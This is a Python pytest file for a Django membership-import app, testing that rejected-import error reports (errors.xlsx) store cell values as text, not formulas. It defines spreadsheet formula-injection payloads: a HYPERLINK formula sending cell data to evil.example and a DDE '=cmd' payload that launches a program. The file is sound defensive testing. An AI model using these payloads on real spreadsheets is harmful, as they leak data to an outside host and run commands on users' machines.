"""A rejected import's error report (errors.xlsx) writes what the file held as text, never as formulas."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from quantriet.orgs.models import ImportJob, ImportStatus
from tests.conftest import World

HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
HEADER = "Họ và tên,Ngày sinh,Giới tính,Ngày vào Đảng,Ngày chính thức,Số thẻ đảng viên,Mã chi bộ,Tình trạng"


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return Path(settings.MEDIA_ROOT)


def _rejected_job(world: World) -> ImportJob:
    code = '"' + HYPERLINK.replace('"', '""') + '"'
    data = f"{HEADER}\nNguyễn Văn Tây,01/01/1990,Nam,01/01/2015,,,{code},\n".encode()
    world.client_for(world.alice).post(
        "/imports/", {"kind": "members", "scope": "XA", "file": SimpleUploadedFile("ds.csv", data)}
    )
    job = ImportJob.objects.get()
    assert job.status == ImportStatus.REJECTED
    return job


def test_a_unit_code_that_looks_like_a_formula_is_quoted_as_text_in_the_report(world: World) -> None:
    job = _rejected_job(world)
    # An error whose text is the cell itself, and one holding characters a spreadsheet cannot (as a
    # file read before input was cleaned could have left in the stored errors).
    job.errors = [
        *job.errors,
        {"row": 3, "column": "=cmd|' /C calc'!A0", "message": HYPERLINK, "hint": "@SUM(1)"},
        {"row": 4, "column": "Họ và tên\x01", "message": "Tên\x08 có ký tự lạ\x1f", "hint": ""},
    ]
    job.save(update_fields=["errors"])
    response = world.client_for(world.alice).get(f"/imports/{job.pk}/errors.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    rows = list(sheet.iter_rows(min_row=3))
    assert "“=HYPERLINK(" in rows[0][2].value and rows[0][2].data_type == "s"
    assert [(c.value, c.data_type) for c in rows[1][1:]] == [
        ("=cmd|' /C calc'!A0", "s"),
        (HYPERLINK, "s"),
        ("@SUM(1)", "s"),
    ]
    assert [c.value for c in rows[2][:3]] == [4, "Họ và tên", "Tên có ký tự lạ"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
